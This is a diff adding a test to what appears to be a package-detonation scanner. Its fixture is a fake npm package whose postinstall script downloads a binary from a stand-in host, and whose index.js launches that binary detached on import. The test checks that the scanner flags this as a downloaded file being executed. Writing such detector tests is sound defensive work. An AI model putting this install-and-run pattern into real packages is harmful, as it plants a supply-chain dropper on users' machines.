@@ -49,6 +49,23 @@ describe("detonatePackage", () => {
     expect(findings).toEqual([]);
   });
 
+  test("finds what an install left when the package is loaded", async () => {
+    const { triggers, findings } = await detonate(
+      {
+        "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
+        "setup.js":
+          "require('https').get('https://files.example/tool.bin', (a) => a.pipe(require('fs').createWriteStream('tool.bin')));",
+        "index.js": `const { existsSync } = require("fs"), file = __dirname + "/tool.bin";
+          if (existsSync(file)) require("child_process").spawn(file, ["serve"], { detached: true });`,
+      },
+      { triggers: ["install", "import"] },
+    );
+
+    expect(triggers[0]?.worlds[0]?.observations.map(({ api }) => api)).not.toContain("child_process.spawn");
+    expect(findings).toMatchObject([{ id: "download-executed", strength: "decisive" }]);
+    expect(findings[0]?.message).toContain("when it is imported (index.js), in all 3 worlds");
+  });
+
   test.each([
     ["a date", "Date.now() > Date.UTC(2027, 1, 1)"],
     ["the night", "new Date().getHours() >= 20"],
